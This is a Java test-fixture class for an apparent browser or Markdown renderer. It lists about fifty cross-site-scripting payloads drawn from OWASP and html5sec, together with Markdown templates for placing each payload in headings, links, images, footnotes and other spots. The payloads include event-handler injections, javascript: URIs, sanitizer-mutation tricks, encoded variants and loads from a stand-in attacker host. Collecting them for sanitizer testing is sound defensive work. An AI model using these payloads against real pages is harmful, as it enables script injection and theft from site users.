package wenzhu.browser;

import java.util.List;

/// Kinds of texts that would be active if a page took them for markup, script or an address, and the places of Markdown for them.
///
/// Sources: OWASP, XSS Filter Evasion Cheat Sheet; html5sec.org; the mutations that sanitizers met. `§` is the number of the
/// placement: the script would call `hit`, the address is on a host of the attacker.
final class HostileTexts {

  private static final List<String> KINDS =
      """
      <script>hit(§)</script>
      </title></style></textarea><script>hit(§)</script>
      "><script src=https://foreign.example/§></script>
      '><img src=x onerror=hit(§)>
      <img src=https://foreign.example/§ onerror=hit(§)>
      <img srcset="https://foreign.example/§ 2x" loading=eager>
      <svg onload=hit(§)>
      <svg><script href=https://foreign.example/§ /></svg>
      <svg><a xlink:href="javascript:hit(§)"><text>x</text></a><animate attributeName=href values=javascript:hit(§) /></svg>
      <svg><use href="data:image/svg+xml,<svg id='x' onload='hit(§)'/>#x"/></svg>
      <iframe src="javascript:hit(§)"></iframe>
      <iframe srcdoc="<script>parent.hit(§)</script>"></iframe>
      <object data="https://foreign.example/§"></object>
      <embed src="https://foreign.example/§">
      <base href="https://foreign.example/§/">
      <meta http-equiv="refresh" content="0;url=https://foreign.example/§">
      <link rel=stylesheet href="https://foreign.example/§">
      <style>@import url(https://foreign.example/§);</style>
      <p style="background:url(https://foreign.example/§)">x</p>
      <form action="https://foreign.example/§"><input name=q autofocus onfocus=hit(§)><button>x</button></form>
      <button formaction="javascript:hit(§)" accesskey=x>x</button>
      <div contenteditable tabindex=0 autofocus onfocus=hit(§)>x</div>
      <textarea autofocus></textarea><select><option>x</select>
      <details open ontoggle=hit(§)><summary>x</summary></details>
      <dialog open>x</dialog><div popover id=x>y</div>
      <video poster="https://foreign.example/§"><source src=x onerror=hit(§)></video>
      <audio src="https://foreign.example/§" onerror=hit(§)>
      <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(§)&gt;">
      <noscript><p title="</noscript><img src=x onerror=hit(§)>">
      <template shadowrootmode=open><script>hit(§)</script></template>
      <!--><img src=x onerror=hit(§)>-->
      <![CDATA[<script>hit(§)</script>]]>
      <?xml-stylesheet href="https://foreign.example/§"?>
      <body onload=hit(§)><frameset onload=hit(§)>
      <marquee onstart=hit(§)>x</marquee>
      <a href="javascript:hit(§)" ping="https://foreign.example/§" tabindex=0>x</a>
      <a id=location name=hit href=x:§>x</a>
      " onmouseover="hit(§)" autofocus onfocus="hit(§)" tabindex="0
      ' onfocus='hit(§)' autofocus x='
      ` onload=`hit(§)
      javascript:hit(§)
      JaVaScRiPt:hit(§)//https://example.org/
      javascript&colon;hit(§)
      &#106;avascript:hit(§)
      data:text/html,<script>hit(§)</script>
      vbscript:hit(§)
      //foreign.example/§
      https://example.org/"onerror="hit(§)
      &lt;script&gt;hit(§)&lt;/script&gt;
      \\u003cscript\\u003ehit(§)\\u003c/script\\u003e
      ＜script＞hit(§)＜/script＞
      </script><script>hit(§)</script><script>
      */hit(§)/*'-hit(§)-'"-hit(§)-"
      ${hit(§)}{{ hit(§) }}{% raw %}{{ "x" | raw }}#{hit(§)}
      """
          .lines()
          .toList();

  private static final List<String> PLACES =
      """
      段@
      ### 节@
      - 项@
      1. 条@
      > 引@
      | 格@ |⏎|---|⏎| 文@ |
      文`@`字
      ```@⏎码⏎```
      ```⏎@⏎```
      文**强@调**
      文~~删@去~~
      文[@](https://example.org/§)字
      文[字](@)
      文[字](<@>)
      文[字](https://example.org/§ "@")
      文[字](https://example.org/?@)
      文[字](https://@/)
      文[字](mailto:@)
      文[字](term:@)
      文[字](quote:@)
      文[字](a.md#@)
      文![@](p.png)
      文![图](p.png "@")
      文![图](@)
      文[字][r§]⏎⏎[r§]: @
      文[字][@]⏎⏎[@]: https://example.org/§
      文<@>
      文[^f§]⏎⏎[^f§]: 脚@
      文[^@]⏎⏎[^@]: 脚
      文<ruby>字<rt>@</rt></ruby>
      文 {#@}
      文<!-- @ -->
      <!-- @ -->
      <b>@</b>
      文$@$
      """
          .lines()
          .map(place -> place.replace('⏎', '\n'))
          .toList();

  private HostileTexts() {}

  static int kinds() {
    return KINDS.size();
  }

  /// The text of a kind, counted round, with a number.
  static String of(int kind, int number) {
    return KINDS.get(kind % KINDS.size()).replace("§", Integer.toString(number));
  }

  /// Templates of Markdown: `@` is the text, `§` its number.
  static List<String> places() {
    return PLACES;
  }
}
